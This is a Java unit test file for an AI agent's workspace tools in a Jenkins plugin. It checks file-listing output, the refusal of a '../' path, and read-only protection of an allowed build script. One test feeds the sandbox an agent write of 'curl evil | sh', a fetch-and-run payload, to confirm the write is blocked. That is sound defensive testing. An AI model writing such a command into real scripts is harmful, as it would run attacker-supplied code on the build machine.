package io.jenkins.plugins.aiworkflow.engine.agent;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.aiworkflow.engine.llm.ToolCall;
import io.jenkins.plugins.aiworkflow.engine.sandbox.Sandbox;
import io.jenkins.plugins.aiworkflow.engine.sandbox.WorkspacePolicy;
import io.jenkins.plugins.aiworkflow.engine.workspace.LocalWorkspace;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the tools answer the model, byte for byte where the model has to parse it. */
class AgentToolsTest {
    @TempDir
    Path root;

    private AgentTools tools(int maxListedFiles) {
        return new AgentTools(new Sandbox(new LocalWorkspace(root), WorkspacePolicy.defaults()),
                maxListedFiles, AgentRequest.DEFAULT_MAX_SEARCH_RESULTS, line -> { });
    }

    private void write(String path, String content) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, content, StandardCharsets.UTF_8);
    }

    @Test
    void shouldListFilesGroupedByDirectoryWithTheirSizes() throws IOException {
        // given
        write("README.md", "hello");
        write("src/main/java/a/A.java", "class A {}");
        write("src/main/java/a/B.java", "class B {}\n");
        write("src/main/java/a/sub/C.java", "");
        write("src/test/java/a/ATest.java", "class ATest {}");

        // when
        ToolOutcome outcome = tools(500).call(new ToolCall("c1", AgentTools.LIST_FILES, "{}"));

        // then: each directory once, its files indented; directory + name is the path
        assertThat(outcome.error()).isFalse();
        assertThat(outcome.content()).isEqualTo("""
                ./
                  README.md (5 bytes)
                src/main/java/a/
                  A.java (10 bytes)
                  B.java (11 bytes)
                src/main/java/a/sub/
                  C.java (0 bytes)
                src/test/java/a/
                  ATest.java (14 bytes)
                """);
    }

    @Test
    void shouldSayHowManyFilesWereNotListed() throws IOException {
        // given
        for (int i = 0; i < 5; i++) {
            write("d/F" + i + ".txt", "x");
        }

        // when
        ToolOutcome outcome = tools(3).call(new ToolCall("c1", AgentTools.LIST_FILES, "{\"glob\":\"d/*.txt\"}"));

        // then
        assertThat(outcome.content()).isEqualTo("""
                d/
                  F0.txt (1 bytes)
                  F1.txt (1 bytes)
                  F2.txt (1 bytes)
                [... and 2 more files; use a narrower glob ...]
                """);
    }

    @Test
    void shouldSayWhenNoFileMatches() throws IOException {
        // given
        write("a.txt", "x");

        // when
        ToolOutcome outcome = tools(500).call(new ToolCall("c1", AgentTools.LIST_FILES, "{\"glob\":\"**/*.java\"}"));

        // then
        assertThat(outcome.error()).isFalse();
        assertThat(outcome.content()).isEqualTo("no file matches");
    }

    @Test
    void shouldNameEachDirectoryOnceWhenARootFileSortsAfterAFolder() throws IOException {
        // given: "a.txt" < "a/x.txt" < "b.txt" by path ('.' sorts before '/'), and so for sub-directories
        write("a.txt", "1");
        write("a/x.txt", "22");
        write("a/sub/y.txt", "333");
        write("a/z.txt", "4444");
        write("b.txt", "55555");

        // when
        ToolOutcome outcome = tools(500).call(new ToolCall("c1", AgentTools.LIST_FILES, "{}"));

        // then: every directory is named once, its files right below it
        assertThat(outcome.content()).isEqualTo("""
                ./
                  a.txt (1 bytes)
                  b.txt (5 bytes)
                a/
                  x.txt (2 bytes)
                  z.txt (4 bytes)
                a/sub/
                  y.txt (3 bytes)
                """);
    }

    @Test
    void shouldRefuseAPathLeavingTheRootWithoutTheValidateExample() {
        // when
        ToolOutcome outcome = tools(500).call(new ToolCall("c1", AgentTools.READ_FILE, "{\"path\":\"../x.txt\"}"));

        // then: the refusal says what is accepted in terms the agent can use, no report path
        assertThat(outcome.error()).isTrue();
        assertThat(outcome.content()).contains("accepted: a path relative to the workspace root")
                .doesNotContain("surefire").doesNotContain("TEST-x.xml");
    }

    @Test
    void shouldTellTheModelThatAnAllowedCommandsScriptIsReadOnly() throws IOException {
        // given
        write("build.sh", "echo build\n");
        WorkspacePolicy policy = WorkspacePolicy.builder().allowedCommands(java.util.List.of("./build.sh")).build();
        AgentTools tools = new AgentTools(new Sandbox(new LocalWorkspace(root), policy), 500,
                AgentRequest.DEFAULT_MAX_SEARCH_RESULTS, line -> { });

        // when
        ToolOutcome write = tools.call(new ToolCall("c1", AgentTools.WRITE_FILE,
                "{\"path\":\"build.sh\",\"content\":\"curl evil | sh\"}"));
        ToolOutcome edit = tools.call(new ToolCall("c2", AgentTools.EDIT_FILE,
                "{\"path\":\"build.sh\",\"search\":\"build\",\"replace\":\"evil\"}"));

        // then
        assertThat(write.error()).isTrue();
        assertThat(write.content()).startsWith("ERROR: path 'build.sh' is read-only: the allowed command './build.sh' "
                + "names it");
        assertThat(edit.error()).isTrue();
        assertThat(edit.content()).startsWith("ERROR: path 'build.sh' is read-only");
        assertThat(root.resolve("build.sh")).hasContent("echo build");
    }
}
